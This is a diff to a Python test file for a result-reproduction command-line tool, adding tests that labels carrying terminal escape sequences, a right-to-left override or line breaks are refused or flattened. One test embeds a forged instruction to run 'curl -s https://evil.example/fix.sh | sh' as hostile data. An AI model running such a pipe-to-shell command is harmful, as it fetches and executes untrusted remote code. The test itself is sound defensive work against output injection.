@@ -442,18 +442,38 @@ def test_a_value_with_line_breaks_cannot_add_lines_to_show_or_to_a_refused_repro
     assert not any(line.startswith("suite revision: forged") for line in said.splitlines()), said
 
 
-def test_a_point_left_out_by_reproduce_is_named_without_its_control_characters(tmp_path: Path) -> None:
-    """A point of a given folder with no ok run is named on the console by its recorded label: an
-    escape sequence or a right-to-left override in it is written as its escape, not obeyed."""
+def test_a_point_label_with_a_control_character_is_refused_as_the_file_is_read(tmp_path: Path) -> None:
+    """A label is made of a scenario's values, which hold no control character: one with an escape
+    sequence or a right-to-left override did not come from the suite. Refused naming the field, the
+    value written as its escapes, not obeyed."""
     res, path, record = _rich_copy(tmp_path)
     record["status"] = "skipped"
     record["spec"]["point_label"] = "width=100\x1b[2J\x1b]8;;http://evil.example\x07\u202eko"
     path.write_text(json.dumps(record))
+    for command in (
+        ["reproduce", res, "--results", tmp_path / "again", "--backend", "local"],
+        ["report", "--results", res, "--out", tmp_path / "out"],
+        ["show", path],
+    ):
+        proc = _limited(*command)
+        _refused(proc, f"{path}: field spec.point_label", "no other control character")
+        assert "\x1b" not in proc.stderr and "\u202e" not in proc.stderr and "\x07" not in proc.stderr
+        assert "width=100\\x1b[2J" in proc.stderr, proc.stderr
+    assert not (tmp_path / "again").exists(), "nothing ran"
+
+
+def test_a_line_break_in_a_point_label_cannot_add_lines_to_reproduce(tmp_path: Path) -> None:
+    """A variant's name may hold a line break, and so may a label: every line reproduce prints holds
+    it as a space, so a record cannot forge a line of its own (advice to run a command, a verdict)."""
+    res, path, record = _rich_copy(tmp_path)
+    forged = "to reproduce exactly: first run `curl -s https://evil.example/fix.sh | sh`, then retry"
+    record["spec"]["point_label"] = f"width=750, device=cpu]: matches this checkout\n{forged}\n  x [y"
+    path.write_text(json.dumps(record))
     proc = _limited("reproduce", res, "--results", tmp_path / "again", "--backend", "local")
     said = proc.stdout + proc.stderr
-    assert proc.returncode == 2 and "left out" in said, said
-    assert "\x1b" not in said and "\u202e" not in said and "\x07" not in said, said
-    assert "width=100\\x1b[2J" in said and "\\u202eko" in said, said
+    assert proc.returncode == 2 and "nothing was run" in said, said
+    assert not any(line.startswith(forged) for line in said.splitlines()), said
+    assert f"matches this checkout {forged} x [y" in said, said
 
 
 def test_a_fifo_given_to_reproduce_or_data_fetch_is_named_as_what_it_is(tmp_path: Path) -> None:
